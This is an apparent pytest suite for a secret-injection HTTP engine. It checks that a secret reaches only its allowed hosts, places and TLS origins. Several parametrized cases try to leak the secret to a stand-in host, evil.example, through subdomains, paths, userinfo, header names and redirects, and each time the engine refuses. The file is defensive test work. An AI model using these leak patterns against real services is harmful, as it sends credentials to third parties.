"""The attacker's tests: a secret reaches the hosts it is for, in the places it is for, and nobody and nowhere else."""

import base64
from pathlib import Path
from urllib.parse import quote

import pytest

from engine.http import EgressPolicy, HttpError, OutgoingRequest
from engine.redaction import REFERENCE_PREFIX
from engine.secrets import Secret, SecretFiller, SecretRules, new_reference, references_in
from tests.engine.http.network import Names, client
from tests.receiver import TLS_HOST, Received, Receiver, Response, receiver_tls, trusting_tls

pytestmark = pytest.mark.anyio

VALUE = 'p"ss wörd/&+='
# of one form with what new_reference() gives, and the same in every process that runs these tests
REF = "hookcellrefa4d05018be55ed389964ad5493269256"
ALL = ("header", "query", "body", "verify")
ANYWHERE = EgressPolicy.parse("127.0.0.0/8")


def filler(*hosts: str, uses: tuple[str, ...] = ALL, value: str | None = VALUE) -> SecretFiller:
    secret = Secret("jira", value, SecretRules(hosts, uses))
    return SecretFiller({REF: "jira"}, {"jira": secret})


async def sent(request: OutgoingRequest, by: SecretFiller, *, resolver: Names | None = None, tls: bool = False) -> None:
    async with client(ANYWHERE, resolver=resolver, tls=trusting_tls() if tls else None) as guarded:
        await guarded.send(request, filler=by)


async def refused(request: OutgoingRequest, by: SecretFiller, resolver: Names | None = None) -> str:
    with pytest.raises(HttpError) as caught:
        await sent(request, by, resolver=resolver)
    assert caught.value.kind == "refused-by-policy" and VALUE not in caught.value.message
    return caught.value.message


async def test_it_is_put_into_headers_query_and_body_as_each_writes_it() -> None:
    async with Receiver() as receiver:
        url = f"{receiver.url}/path?key={REF}&more=1"
        bodies = [
            ("application/json", f'{{"a": "x{REF}"}}'.encode(), '{"a": "xp\\"ss wörd/&+="}'.encode()),
            ("application/vnd.api+json", f'["{REF}"]'.encode(), '["p\\"ss wörd/&+="]'.encode()),
            (
                "application/x-www-form-urlencoded; charset=utf-8",
                f"a={REF}".encode(),
                b"a=p%22ss+w%C3%B6rd%2F%26%2B%3D",
            ),
            ("text/plain", f"a={REF}".encode(), f"a={VALUE}".encode()),
        ]
        for kind, body, _ in bodies:
            headers = (("Content-Type", kind), ("Authorization", f"Bearer {REF}"))
            await sent(OutgoingRequest("POST", url, headers, body), filler("127.0.0.1"))
    for received, (_, _, filled) in zip(receiver.requests, bodies, strict=True):
        assert received.target == f"/path?key={quote(VALUE, safe='')}&more=1"
        assert received.header("authorization") == f"Bearer {VALUE}"
        assert received.body == filled


async def test_basic_credentials_are_encoded_with_the_value_in_them() -> None:
    async with Receiver() as receiver:
        encoded = base64.b64encode(f"user:{REF}".encode()).decode()
        await sent(OutgoingRequest("GET", receiver.url, (("Authorization", f"Basic {encoded}"),)), filler("127.0.0.1"))
    header = receiver.requests[0].header("authorization") or ""
    assert base64.b64decode(header.removeprefix("Basic ")).decode() == f"user:{VALUE}"


@pytest.mark.parametrize(
    "url",
    [
        f"https://{REF}.evil.example/",
        f"https://{REF}/",
        f"https://evil.example/{REF}",
        f"https://evil.example/a/{REF}/b?c=d",
        f"https://user:{REF}@evil.example/",
    ],
)
async def test_it_never_stands_in_host_or_path_and_nothing_is_looked_up(url: str) -> None:
    names = Names()
    message = await refused(OutgoingRequest("GET", url), filler("*.evil.example", "evil.example"), names)
    assert message.startswith("a secret may stand in the value of a header, in the query or in the body")
    assert names.asked == []


@pytest.mark.parametrize("url", [f"{REF}://evil.example/", f"https://evil.example:{REF}/"])
async def test_a_scheme_or_port_of_a_reference_is_no_url(url: str) -> None:
    with pytest.raises(HttpError) as caught:
        await sent(OutgoingRequest("GET", url), filler("evil.example"))
    assert caught.value.kind == "bad-url"


async def test_the_name_of_a_header_is_no_place() -> None:
    request = OutgoingRequest("GET", "https://evil.example/", ((REF, "x"),))
    assert (await refused(request, filler("evil.example"))).startswith("a secret may stand in the value")


@pytest.mark.parametrize("where", ["header", "query", "body"])
async def test_another_host_gets_nothing_and_the_refusal_says_which_to_add(where: str) -> None:
    names = Names(evil_example=["127.0.0.1"])
    request = at(where, "https://evil.example/")
    message = await refused(request, filler("jira.example", "*.jira.example"), names)
    assert message == "the secret jira may not be sent to evil.example; to allow it, add evil.example to its hosts"
    assert names.asked == []


@pytest.mark.parametrize("where", ["header", "query", "body"])
async def test_a_use_that_is_not_allowed_is_refused(where: str) -> None:
    others = tuple(use for use in ALL if use != where)
    message = await refused(at(where, "https://jira.example/"), filler("jira.example", uses=others))
    assert message == f"the secret jira may not be sent in a {where}; to allow it, add {where} to its uses"


def at(where: str, url: str) -> OutgoingRequest:
    match where:
        case "header":
            return OutgoingRequest("GET", url, (("X-Key", f"k {REF}"),))
        case "query":
            return OutgoingRequest("GET", f"{url}?a={REF}")
        case _:
            return OutgoingRequest("POST", url, (), REF.encode())


async def test_without_tls_only_a_loopback_address_gets_it_whatever_a_name_resolves_to() -> None:
    names = Names(jira_example=["127.0.0.1"], localhost=["127.0.0.1"])
    for host in ("jira.example", "localhost"):
        message = await refused(at("header", f"http://{host}:8080/"), filler("jira.example", "localhost"), names)
        advice = ": write 127.0.0.1, there and in its hosts" if host == "localhost" else ""
        assert message == f"the secret jira is sent over https only, and http://{host}:8080 is not{advice}"


async def test_an_allowed_host_with_a_certificate_gets_it_and_one_without_gets_nothing() -> None:
    names = Names(**{TLS_HOST.replace(".", "_"): ["127.0.0.1"]})
    async with Receiver(tls=receiver_tls()) as receiver:
        request = at("header", f"https://{TLS_HOST}:{receiver.port}/")
        with pytest.raises(HttpError, match="certificate"):
            await sent(request, filler(TLS_HOST), resolver=names)
        assert receiver.requests == []
        await sent(request, filler(TLS_HOST), resolver=names, tls=True)
    assert receiver.requests[0].header("x-key") == f"k {VALUE}"


async def test_it_follows_a_redirect_within_its_origin_and_never_to_another() -> None:
    def moving(request: Received) -> Response:
        if request.target.startswith("/start"):
            return Response(307, (("Location", "/end"),))
        return (
            Response(307, (("Location", f"{other.url}/end?{request.target}"),))
            if request.target == "/end"
            else Response()
        )

    async with Receiver() as other, Receiver(moving) as receiver:
        for where in ("header", "body"):
            message = await refused(at(where, f"{receiver.url}/start"), filler("127.0.0.1"))
            assert message == f"the secret jira does not follow a redirect from {receiver.url} to {other.url}"
    assert other.requests == []
    assert [request.target for request in receiver.requests] == ["/start", "/end"] * 2
    assert receiver.requests[1].header("x-key") == f"k {VALUE}"


async def test_what_only_looks_like_a_reference_is_text() -> None:
    typed = new_reference()
    async with Receiver() as receiver:
        request = OutgoingRequest("POST", f"{receiver.url}/{typed}?a={typed}", (("X-Key", typed),), typed.encode())
        await sent(request, filler("jira.example"))
    received = receiver.requests[0]
    assert (received.target, received.header("x-key")) == (f"/{typed}?a={typed}", typed)
    assert received.body == typed.encode()


async def test_one_that_is_gone_or_cannot_be_read_sends_nothing() -> None:
    gone = SecretFiller({REF: "jira"}, {})
    assert "is not there any more" in await refused(at("header", "https://jira.example/"), gone)
    unreadable = filler("jira.example", value=None)
    assert "cannot be read with this server's key: give" in await refused(
        at("query", "https://jira.example/"), unreadable
    )


async def test_a_value_with_a_line_break_is_no_header_and_is_not_repeated() -> None:
    by = filler("jira.example", value="-----BEGIN\nkey")
    message = await refused(at("header", "https://jira.example/"), by)
    assert "control character" in message and "BEGIN" not in message
    of_many_lines = filler("127.0.0.1", value="-----BEGIN\nkey")
    async with Receiver() as receiver:
        await sent(at("body", receiver.url), of_many_lines)
    assert receiver.requests[0].body == b"-----BEGIN\nkey"


def test_references_are_found_wherever_they_stand_and_cannot_be_guessed(tmp_path: Path) -> None:
    one, two, three = new_reference(), new_reference(), new_reference()
    basic = base64.b64encode(f"u:{three}".encode()).decode()
    headers = (("Authorization", f"Basic {basic}"), ("X", "Basic ???"))
    assert references_in(OutgoingRequest("POST", f"https://h/?a={one}", headers, two.encode())) == {one, two, three}
    assert len({one, two, three}) == 3 and one.startswith(REFERENCE_PREFIX) and len(one) == len(REFERENCE_PREFIX) + 32
